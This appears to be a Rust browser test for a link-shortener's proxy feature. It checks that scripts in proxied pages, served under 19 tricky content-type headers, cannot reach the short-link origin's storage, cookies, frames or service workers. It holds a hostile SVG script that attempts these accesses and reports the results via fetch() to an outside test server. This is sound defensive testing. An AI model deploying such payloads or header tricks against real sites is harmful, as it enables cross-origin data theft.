//! Scripts of proxied destinations in a real browser: they run, but without the short links'
//! origin.

use serde_json::json;

use crate::support::{
    driver::Driver,
    outsider::Outsider,
    server::{Server, eventually},
};

/// Types that declare a document, or seem to. Browsers end a type at the first blank or
/// semicolon, and of several types they take the last one they understand.
const TYPES: [(&str, &str); 19] = [
    ("html", "content-type: text/html\r\n"),
    ("shouted", "content-type: TEXT/HTML;charset=utf-8\r\n"),
    (
        "policy",
        "content-type: text/html\r\n\
         content-security-policy: sandbox allow-scripts allow-same-origin\r\n",
    ),
    ("paren", "content-type: text/html (x)\r\n"),
    ("blank", "content-type: text/html x\r\n"),
    ("tab", "content-type: text/html\tx\r\n"),
    ("quoted", "content-type: text/html;\"\r\n"),
    ("xhtml", "content-type: application/xhtml+xml x\r\n"),
    ("svg", "content-type: image/svg+xml (y)\r\n"),
    ("xml", "content-type: application/xml x\r\n"),
    ("textxml", "content-type: text/xml\r\n"),
    ("rss", "content-type: application/rss+xml\r\n"),
    ("nothing", ""),
    (
        "several",
        "content-type: image/png\r\ncontent-type: text/html\r\n",
    ),
    ("comma", "content-type: image/png, text/html\r\n"),
    ("pdf", "content-type: application/pdf\r\n"),
    ("pdfcomma", "content-type: application/pdf, text/html\r\n"),
    (
        "pdftwice",
        "content-type: application/pdf\r\ncontent-type: text/html\r\n",
    ),
    (
        "mixed",
        "content-type: multipart/x-mixed-replace; boundary=b\r\n",
    ),
];

/// A document that reports its rights to the outsider. An SVG element runs its scripts in HTML,
/// in XML and alone.
fn hostile_document(slug: &str, outsider: &str) -> String {
    let script = r#"(async () => {
        let found = "origin " + self.origin;
        const tries = {
            storage: () => localStorage.setItem("stolen", "1"),
            cookie: () => { document.cookie = "stolen=1"; },
            child: () => {
                const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe");
                document.documentElement.appendChild(frame);
                frame.contentWindow.localStorage.setItem("stolen", "1");
            },
            worker: () => navigator.serviceWorker.register("/worker"),
        };
        for (const name in tries) {
            try { await tries[name](); found += ", " + name + " reached"; }
            catch (error) { found += ", " + name + " " + error.name; }
        }
        await fetch("OUTSIDER/told/SLUG?" + encodeURIComponent(found), { mode: "no-cors" });
    })();"#;
    let script = script.replace("OUTSIDER", outsider).replace("SLUG", slug);
    let document =
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{script}</script></svg>");
    match slug {
        "mixed" => format!("--b\r\ncontent-type: text/html\r\n\r\n{document}\r\n--b--\r\n"),
        _ => document,
    }
}

/// Serves the documents, a worker, and a page that frames all of them; the recorded requests
/// include the scripts' reports.
fn hostile_origin() -> Outsider {
    Outsider::start(|heard| {
        let path = heard.line.split(' ').nth(1).unwrap_or_default();
        let own = format!("http://{}", heard.header("host").unwrap());
        let (head, body) = match path.strip_prefix('/').unwrap_or_default() {
            "worker" => ("content-type: text/javascript\r\n", String::new()),
            frames if frames.starts_with("frames?") => {
                let origin = frames.strip_prefix("frames?").unwrap();
                let control = hostile_document("control", &own);
                let frames =
                    TYPES.map(|(slug, _)| format!("<iframe src=\"{origin}/{slug}\"></iframe>"));
                let frames = frames.concat();
                ("content-type: text/html\r\n", format!("{control}{frames}"))
            }
            slug => match TYPES.iter().find(|(known, _)| *known == slug) {
                Some((slug, head)) => (*head, hostile_document(slug, &own)),
                None => ("content-type: text/plain\r\n", String::new()),
            },
        };
        let length = body.len();
        format!(
            "HTTP/1.1 200 OK\r\n{head}content-length: {length}\r\nconnection: close\r\n\r\n{body}"
        )
    })
}

fn proxying_to(origin: &Outsider) -> Server {
    let server = Server::start_with(&[
        ("SLUGLINE_PUBLIC_LINK_PROXY_ENABLED", "true"),
        ("SLUGLINE_PROXY_ALLOWED_NETWORKS", "127.0.0.0/8"),
    ]);
    for slug in TYPES.iter().map(|(slug, _)| *slug).chain(["worker"]) {
        let url = origin.url(&format!("/{slug}"));
        server.create(&json!({"slug": slug, "url": url, "proxy": true}));
    }
    server
}

/// The scripts' reports, by slug.
fn told(origin: &Outsider) -> Vec<(String, String)> {
    let lines = origin.heard().into_iter().map(|heard| heard.line);
    lines
        .filter_map(|line| {
            let told = line.strip_prefix("GET /told/")?.strip_suffix(" HTTP/1.1")?;
            let (slug, found) = told.split_once('?')?;
            let found = found.replace("%20", " ").replace("%2C", ",");
            Some((slug.to_owned(), found))
        })
        .collect()
}

const NOTHING: &str = "origin null, storage SecurityError, cookie SecurityError, \
                       child SecurityError, worker SecurityError";

#[test]
fn scripts_of_proxied_documents_reach_nothing_of_our_origin() {
    let origin = hostile_origin();
    let server = proxying_to(&origin);
    let browser = Driver::start();
    let frames = origin.url(&format!("/frames?{}", server.origin()));
    browser.send("/url", &json!({"url": frames}));
    // Chromium certainly runs these, so a missing report is a failure.
    let certain = [
        "control", "html", "policy", "paren", "blank", "xhtml", "svg", "xml",
    ];
    let mut reports = Vec::new();
    eventually("the documents report", || {
        reports = told(&origin);
        let reported = |document: &&str| reports.iter().any(|(slug, _)| slug == document);
        certain.iter().all(reported)
    });
    let (_, control) = reports.iter().find(|(slug, _)| slug == "control").unwrap();
    assert!(
        control.contains("storage reached, cookie reached, child reached, worker reached"),
        "where nothing is forbidden the script finds it: {control}"
    );
    for (slug, found) in reports.iter().filter(|(slug, _)| slug != "control") {
        assert_eq!(found, NOTHING, "{slug}");
    }
}

#[test]
fn a_proxied_document_in_a_window_of_its_own_reaches_nothing_either() {
    let origin = hostile_origin();
    let server = proxying_to(&origin);
    let browser = Driver::start();
    let url = format!("{}/paren", server.origin());
    browser.send("/url", &json!({"url": url}));
    eventually("the document reports", || !told(&origin).is_empty());
    assert_eq!(told(&origin), [("paren".to_owned(), NOTHING.to_owned())]);
}
